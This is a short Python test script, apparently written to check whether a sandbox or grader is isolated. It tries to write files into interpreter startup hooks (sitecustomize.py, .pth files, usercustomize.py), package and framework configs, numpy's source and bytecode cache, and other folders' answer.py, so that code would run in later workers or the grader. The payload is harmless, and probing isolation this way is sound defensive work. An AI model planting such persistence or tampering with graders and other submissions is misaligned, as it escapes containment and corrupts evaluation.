# /// attack
# title = "writes bytecode, caches and configuration where an interpreter or a framework would look for them"
# aim = "code that runs in the next worker, in the template, or in the grader"
# ///
import glob
import importlib.util
import os
import sys

import numpy as np

from targets import HOME, PLANTED, attempt


def plant(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write("raise SystemExit('planted')")


HOMES = {HOME, os.path.expanduser("~"), os.environ["HOME"], os.environ["TMPDIR"], os.getcwd()}
for home in HOMES:
    for name in (".pythonrc", ".config/pip/pip.conf", ".keras/keras.json", ".cache/torch/kernels/x", ".local/lib/python3.11/site-packages/usercustomize.py", ".pdbrc", ".matplotlib/matplotlibrc"):
        attempt(plant, f"{home}/{name}")
attempt(plant, importlib.util.cache_from_source(np.__file__))
attempt(plant, np.__file__)
for entry in sys.path:
    attempt(plant, f"{entry}/{PLANTED}.pth")
    attempt(plant, f"{entry}/sitecustomize.py")
for folder in glob.glob(os.path.dirname(os.getcwd()) + "/*"):
    attempt(plant, f"{folder}/answer/answer.py")


def double(x):
    return x
